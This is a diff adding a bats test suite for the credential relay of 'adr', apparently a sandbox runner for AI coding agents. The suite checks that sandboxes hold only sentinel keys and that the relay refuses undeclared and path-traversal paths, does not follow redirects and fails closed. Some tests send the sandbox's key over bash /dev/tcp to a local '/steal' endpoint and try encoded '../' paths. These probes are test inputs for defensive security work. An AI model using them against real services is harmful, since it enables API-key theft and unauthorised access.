@@ -1,0 +1,271 @@
+#!/usr/bin/env bats
+# The credential relay against the real engine (SEC-06 of
+# ../shared/security-probes.md and the relay's lifecycle): a test agent
+# "rl" (bash in a small image) whose definition declares one API route,
+# RL_API_KEY at RL_BASE_URL.  The API is tests/gateway/tls-upstream.py on
+# the docker bridge's address, over TLS with a CA of the test's own
+# (ADR_EXTRA_CA); another host there (plain HTTP, allowlisted) logs what
+# a sentinel sent elsewhere looks like.  The sandbox's client is bash's
+# /dev/tcp.  Every refusal has its allowed control.
+
+bats_require_minimum_version 1.5.0
+load ../lib/testimage
+load ../lib/tls
+
+setup_file() {
+  export ADR_BIN=${ADR_BIN:-$BATS_TEST_DIRNAME/../../build/adr}
+  export PREFIX_ID="adrrl$$$RANDOM"
+  adr_test_image "$PREFIX_ID"
+  docker tag "$PREFIX_ID/sh:latest" "$PREFIX_ID/rl:latest"
+  HOSTIP=$(docker network inspect bridge -f '{{(index .IPAM.Config 0).Gateway}}' 2>/dev/null)
+  [ -n "$HOSTIP" ] || HOSTIP=172.17.0.1
+  export HOSTIP
+  local d=$BATS_FILE_TMPDIR
+  test_ca "$d/tls" "IP:$HOSTIP"
+  export API_LOG="$d/api.log" OTHER_LOG="$d/other.log"
+  python3 "$BATS_TEST_DIRNAME/../gateway/tls-upstream.py" --bind "$HOSTIP" --log "$API_LOG" \
+    --tls "$d/tls/srv.pem" "$d/tls/srv.key" >"$d/api.out" 2>"$d/api.err" &
+  echo $! >"$d/api.pid"
+  python3 "$BATS_TEST_DIRNAME/../gateway/tls-upstream.py" --bind "$HOSTIP" --log "$OTHER_LOG" --plain \
+    >"$d/other.out" 2>"$d/other.err" &
+  echo $! >"$d/other.pid"
+  for _ in $(seq 100); do
+    grep -q listening "$d/api.out" 2>/dev/null && grep -q listening "$d/other.out" 2>/dev/null && break
+    sleep 0.1
+  done
+  export API_PORT=$(awk '/^listening/{print $2}' "$d/api.out")
+  export OTHER_PORT=$(awk '/^listening/{print $2}' "$d/other.out")
+  [ -n "$API_PORT" ] && [ -n "$OTHER_PORT" ] || { cat "$d/api.err" "$d/other.err" >&2; return 1; }
+  export REAL_KEY="sk-relay-canary-$RANDOM$RANDOM$RANDOM"
+}
+
+teardown_file() {
+  kill "$(cat "$BATS_FILE_TMPDIR/api.pid")" "$(cat "$BATS_FILE_TMPDIR/other.pid")" 2>/dev/null || true
+  docker rmi "$PREFIX_ID/sh:latest" "$PREFIX_ID/rl:latest" >/dev/null 2>&1 || true
+}
+
+setup() {
+  export HOME="$BATS_TEST_TMPDIR/home"
+  export XDG_CONFIG_HOME="$HOME/.config" XDG_STATE_HOME="$HOME/.local/state"
+  unset DOCKER_CONTEXT ADR_DEBUG
+  mkdir -p "$HOME" "$XDG_CONFIG_HOME/adr/agents"
+  printf 'ADR_IMAGE_PREFIX=%s\nADR_AGENT=rl\nADR_EXTRA_CA=%s\nADR_ALLOW=%s:%s\n' "$PREFIX_ID" \
+    "$BATS_FILE_TMPDIR/tls/ca.pem" "$HOSTIP" "$OTHER_PORT" >"$XDG_CONFIG_HOME/adr/config"
+  cat >"$XDG_CONFIG_HOME/adr/agents/rl.json" <<'JSON'
+{ "name": "rl", "description": "test agent: bash with one relayed API",
+  "npm": { "package": "none", "version": "0" }, "binary": "bash",
+  "config": [ { "host": "~/.rl", "home": ".rl" } ],
+  "args": { "interactive": [], "headless": ["-c", "{prompt}"] },
+  "credentials": {
+    "hide": [".rl/login.json"],
+    "routes": [ { "name": "api", "api": "openai", "base_env": "RL_BASE_URL", "key_env": ["RL_API_KEY"] } ] } }
+JSON
+  export RL_BASE_URL="https://$HOSTIP:$API_PORT/v1" RL_API_KEY="$REAL_KEY"
+  WS="$BATS_TEST_TMPDIR/ws"
+  mkdir -p "$WS"
+  cd "$WS"
+  : >"$API_LOG"
+  : >"$OTHER_LOG"
+}
+
+teardown() {
+  [ -z "${AGENT_NAME:-}" ] || "$ADR_BIN" rm --force --no-push "$AGENT_NAME" >/dev/null 2>&1 || true
+  AGENT_NAME=
+}
+
+adr() { "$ADR_BIN" "$@"; }
+
+# The sandbox's client, in bash: req METHOD PATH [KEY] sends a request to
+# the relay (RL_BASE_URL) with "Authorization: Bearer KEY" (default: the
+# sandbox's RL_API_KEY); prints the status code (CONNFAIL when nothing
+# answers) and keeps the response in /tmp/resp.
+LIB='
+req() {
+  local u=${RL_BASE_URL#http://}; local hp=${u%%/*}; local pre=/${u#*/}
+  exec 3<>/dev/tcp/${hp%:*}/${hp#*:} 2>/dev/null || { echo CONNFAIL; return; }
+  printf "%s %s%s HTTP/1.1\r\nHost: relay\r\nAuthorization: Bearer %s\r\nContent-Length: 2\r\nConnection: close\r\n\r\n{}" \
+    "$1" "$pre" "$2" "${3:-$RL_API_KEY}" >&3
+  timeout 10 cat <&3 >/tmp/resp; exec 3>&-
+  local l; IFS= read -r l </tmp/resp; echo "${l:9:3}"
+}
+# through the egress proxy to another host, with the same header
+elsewhere() { # url
+  local p=${HTTP_PROXY#http://}
+  exec 3<>/dev/tcp/${p%:*}/${p#*:} || { echo CONNFAIL; return; }
+  printf "GET %s HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer %s\r\nConnection: close\r\n\r\n" "$1" "$RL_API_KEY" >&3
+  local l; IFS= read -r -t 10 l <&3; exec 3>&-; echo "${l:9:3}"
+}
+'
+
+sbx() { # script
+  run --separate-stderr adr run rl --timeout 60s --prompt "$LIB $1"
+}
+
+# what an upstream log's requests carried in Authorization
+auths() { jq -r '.headers[] | select(.[0] | ascii_downcase == "authorization") | .[1]' "$1"; }
+
+@test "SEC-06 control: on a declared path the API gets the real key; the sandbox holds a sentinel" {
+  sbx 'req POST /chat/completions; echo "$RL_API_KEY"; env | grep -c sk-relay-canary || true'
+  [ "$status" -eq 0 ]
+  [ "${lines[0]}" = 200 ]
+  [[ "${lines[1]}" == adr-sentinel-* ]]
+  [ "${lines[2]}" = 0 ]
+  [ "$(auths "$API_LOG")" = "Bearer $REAL_KEY" ]
+  [ "$(jq -r .target "$API_LOG")" = /v1/chat/completions ]
+  # the decision log: the route and path, never a token
+  elog=$(ls "$XDG_STATE_HOME"/adr/egress/*/egress.jsonl)
+  grep -q '"via":"relay".*"verdict":"allow".*"route":"api","path":"/chat/completions","status":200' "$elog"
+  ! grep -qE "$REAL_KEY|adr-sentinel-" "$elog"
+}
+
+@test "SEC-06: paths the route does not declare are refused and nothing reaches the API" {
+  sbx 'req POST /files; req GET /chat/completions/../../admin; req GET /%2e%2e/admin; req GET //chat/completions
+       req POST /chat/completions'
+  [ "$status" -eq 0 ]
+  [ "$output" = "$(printf '403\n403\n403\n403\n200')" ] # the last: the control
+  [ "$(jq -r .target "$API_LOG")" = /v1/chat/completions ]
+}
+
+@test "SEC-06: a sentinel sent to another host stays a sentinel" {
+  sbx "elsewhere http://$HOSTIP:$OTHER_PORT/steal; req POST /chat/completions"
+  [ "$status" -eq 0 ]
+  [ "$output" = "$(printf '200\n200')" ]
+  [[ "$(auths "$OTHER_LOG")" == "Bearer adr-sentinel-"* ]]
+  ! grep -qF "$REAL_KEY" "$OTHER_LOG"
+  [ "$(auths "$API_LOG")" = "Bearer $REAL_KEY" ] # control: the relay swaps it
+}
+
+@test "SEC-06: an upstream redirect is not followed and does not carry the key" {
+  # the API answers 307 to another host; the relay passes it on; the
+  # sandbox follows it with what it has: the sentinel
+  sbx "req GET '/models/redirect?to=http://$HOSTIP:$OTHER_PORT/next'
+       loc=\$(tr -d '\r' </tmp/resp | awk 'tolower(\$1)==\"location:\" {print \$2}'); echo \"\$loc\"
+       elsewhere \"\$loc\""
+  [ "$status" -eq 0 ]
+  [ "$output" = "$(printf '307\nhttp://%s:%s/next\n200' "$HOSTIP" "$OTHER_PORT")" ]
+  [ "$(wc -l <"$API_LOG")" -eq 1 ] # the relay did not follow it
+  [ "$(auths "$API_LOG")" = "Bearer $REAL_KEY" ]
+  [[ "$(auths "$OTHER_LOG")" == "Bearer adr-sentinel-"* ]]
+  ! grep -qF "$REAL_KEY" "$OTHER_LOG"
+}
+
+@test "SEC-06: another sandbox's sentinel is refused" {
+  AGENT_NAME=holder
+  run adr start rl --name holder --prompt 'sleep 300'
+  [ "$status" -eq 0 ]
+  other=$(adr exec holder -- printenv RL_API_KEY)
+  [[ "$other" == adr-sentinel-* ]]
+  sbx "[ \"\$RL_API_KEY\" != '$other' ] && echo distinct; req POST /chat/completions '$other'
+       req POST /chat/completions"
+  [ "$status" -eq 0 ]
+  [ "$output" = "$(printf 'distinct\n401\n200')" ]
+  [ "$(wc -l <"$API_LOG")" -eq 1 ]
+}
+
+@test "relay stopped: requests fail closed; started again, or restarted by the engine after a crash: they work" {
+  AGENT_NAME=longrun
+  run adr start rl --name longrun --prompt 'sleep 300'
+  [ "$status" -eq 0 ]
+  cname=$(docker ps --filter "label=dev.adr.name=longrun" --format '{{.Names}}')
+  probe() { adr exec longrun bash -c "$LIB req POST /chat/completions"; }
+  run --separate-stderr probe
+  [ "$output" = 200 ]
+  docker stop -t 1 "$cname-gw" >/dev/null
+  run --separate-stderr probe
+  [ "$output" = CONNFAIL ]
+  docker start "$cname-gw" >/dev/null
+  for _ in $(seq 50); do [ -e "$XDG_STATE_HOME/adr/egress/$cname/ready" ] && break; sleep 0.1; done
+  run --separate-stderr probe
+  [ "$output" = 200 ]
+  pid=$(docker inspect -f '{{.State.Pid}}' "$cname-gw")
+  kill -9 "$pid"
+  for _ in $(seq 100); do
+    [ "$(docker inspect -f '{{.State.Running}} {{.State.Pid}}' "$cname-gw")" != "true $pid" ] &&
+      [ "$(docker inspect -f '{{.State.Running}}' "$cname-gw")" = true ] && break
+    sleep 0.1
+  done
+  sleep 0.5
+  run --separate-stderr probe
+  [ "$output" = 200 ]
+  # three real requests reached the API, all with the key
+  [ "$(auths "$API_LOG" | sort -u)" = "Bearer $REAL_KEY" ]
+  [ "$(wc -l <"$API_LOG")" -eq 3 ]
+  # the route file (the key) is readable by its owner only while the agent
+  # lives, and gone with it
+  rf="$XDG_STATE_HOME/adr/egress/$cname/relay"
+  [ "$(stat -c %a "$rf")" = 400 ]
+  run adr rm --force --no-push longrun
+  [ "$status" -eq 0 ]
+  AGENT_NAME=
+  [ ! -e "$rf" ]
+}
+
+@test "an API that fails TLS verification gets nothing; the key from adr secret; login files not staged" {
+  mkdir -p "$HOME/.rl"
+  echo "{\"token\": \"$REAL_KEY\"}" >"$HOME/.rl/login.json"
+  echo keep >"$HOME/.rl/settings"
+  printf '%s' "$REAL_KEY" | adr secret set RL_API_KEY
+  unset RL_API_KEY
+  # a CA that did not sign the API's certificate: the relay refuses it
+  test_ca "$BATS_TEST_TMPDIR/other-ca" "IP:$HOSTIP"
+  printf 'ADR_EXTRA_CA=%s\n' "$BATS_TEST_TMPDIR/other-ca/ca.pem" >>"$XDG_CONFIG_HOME/adr/config"
+  sbx 'req POST /chat/completions'
+  [ "$output" = 502 ]
+  [ ! -s "$API_LOG" ] || ! grep -q '"target"' "$API_LOG"
+  # control: the right CA, and the key from the secret store
+  printf 'ADR_EXTRA_CA=%s\n' "$BATS_FILE_TMPDIR/tls/ca.pem" >>"$XDG_CONFIG_HOME/adr/config"
+  sbx 'req POST /chat/completions; ls -a ~/.rl /run/adr-stage/.rl | tr "\n" " "'
+  [ "${lines[0]}" = 200 ]
+  [[ "${lines[1]}" == *settings* ]]
+  [[ "${lines[1]}" != *login.json* ]]
+  [ "$(auths "$API_LOG" | tail -1)" = "Bearer $REAL_KEY" ]
+}
+
+@test "--no-relay: the key goes in as the user passed it (the documented fallback)" {
+  sbx 'echo "$RL_API_KEY"'
+  [[ "$output" == adr-sentinel-* ]]
+  run --separate-stderr adr run rl --no-relay -e RL_API_KEY --prompt 'echo "$RL_API_KEY"'
+  [ "$status" -eq 0 ]
+  [ "$output" = "$REAL_KEY" ]
+}
+
+@test "bad input: secret names and values, credentials in an agent definition, ADR_RELAY" {
+  run adr secret set 'bad name' </dev/null
+  [ "$status" -ne 0 ]
+  [[ "$output" == *"invalid secret name 'bad name'"* ]]
+  run adr secret set K <<<"two words"
+  [ "$status" -ne 0 ]
+  [[ "$output" == *"printable characters without spaces"* ]]
+  [ ! -e "$XDG_STATE_HOME/adr/secrets/K" ]
+  run adr secret rm NOPE
+  [ "$status" -ne 0 ]
+  [[ "$output" == *"no secret named 'NOPE'"* ]]
+  run adr secret frob
+  [ "$status" -eq 2 ]
+  printf 'v1' | adr secret set B_KEY
+  printf 'v2' | adr secret set A_KEY
+  run adr secret ls
+  [ "$output" = "$(printf 'A_KEY\nB_KEY')" ]
+  [ "$(stat -c %a "$XDG_STATE_HOME/adr/secrets/A_KEY")" = 600 ]
+  run adr secret rm A_KEY B_KEY
+  [ "$status" -eq 0 ]
+  run adr secret ls
+  [ -z "$output" ]
+  cat >"$XDG_CONFIG_HOME/adr/agents/bad.json" <<'JSON'
+{ "name": "bad", "npm": { "package": "none", "version": "0" }, "binary": "bash",
+  "args": { "interactive": [], "headless": ["-c", "{prompt}"] },
+  "credentials": { "routes": [ { "name": "x", "api": "smtp", "upstream": "https://a", "key_env": ["K"] } ] } }
+JSON
+  run adr run bad --prompt true
+  [ "$status" -ne 0 ]
+  [[ "$output" == *"bad.json"*"\"api\" must be anthropic, openai or gemini"* ]]
+  rm "$XDG_CONFIG_HOME/adr/agents/bad.json"
+  run adr config set ADR_RELAY=maybe
+  [ "$status" -ne 0 ]
+  [[ "$output" == *"ADR_RELAY"*"expected on or off"* ]]
+  # a base URL that is not https: not relayed, and the key not passed
+  RL_BASE_URL=http://plain.test sbx 'echo "[${RL_API_KEY:-}]"'
+  [ "$status" -eq 0 ]
+  [ "$output" = "[]" ]
+  [[ "$stderr" == *"RL_API_KEY from the environment is not relayed and not passed"*"not an https URL"* ]]
+}
